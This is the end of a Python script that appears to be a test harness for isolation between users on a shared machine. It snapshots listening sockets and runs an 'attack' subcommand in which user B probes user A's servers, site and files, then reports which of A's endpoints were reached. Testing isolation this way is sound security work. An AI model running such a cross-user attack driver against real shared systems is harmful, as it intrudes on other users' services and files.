                   *walk_private(run_user, listing_is_breach=True))

    expected = [line.strip() for line in Path(args.expect).read_text().splitlines()
                if line.strip()] if args.expect else []
    for endpoint in expected:
        kind, _, where = endpoint.partition(":")
        key = f"tcp:{where.rsplit(':', 1)[-1]}" if kind == "tcp" else f"unix:{where}"
        report.add(f"{endpoint} (A's own settings)", "found and attacked by B's scan",
                   "OK" if key in attacked else FAILED,
                   "" if key in attacked else "B's scan missed an endpoint A uses")
    if not expected:
        report.add("A's endpoints", "found and attacked by B's scan", FAILED,
                   "the driver gave no list of A's endpoints to check against")


def main(argv: list[str] | None = None) -> int:
    """Run one subcommand; 0 means it ran (the rows say what happened), 2 a usage error."""
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    snap = sub.add_parser("listeners", help="write the listening sockets now as JSON")
    snap.add_argument("--out", required=True)
    attack = sub.add_parser("attack", help="attack user A's servers, site and files")
    attack.add_argument("--owner", required=True, help="user A's name")
    attack.add_argument("--baseline", required=True, help="listeners before A started")
    attack.add_argument("--entries", required=True,
                        help="shared temp entries before A started: path<TAB>... per line")
    attack.add_argument("--expect", help="A's endpoints, one per line: tcp:HOST:PORT, unix:PATH")
    attack.add_argument("--ignore", action="append", default=[],
                        help="a temp entry that is the driver's own (repeatable)")
    attack.add_argument("--report", required=True, help="where to write the rows (TSV)")
    args = parser.parse_args(argv)

    if args.command == "listeners":
        listeners = {"time": time.time(), "tcp": sorted(tcp_listeners()),
                     "udp": sorted(udp_sockets()), "unix": sorted(unix_listeners())}
        Path(args.out).write_text(json.dumps(listeners, indent=1))
        return 0
    report = Report()
    try:
        run_attack(args, report)
    finally:  # rows so far are evidence even if a try crashed; the driver sees the exit code
        report.write(Path(args.report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
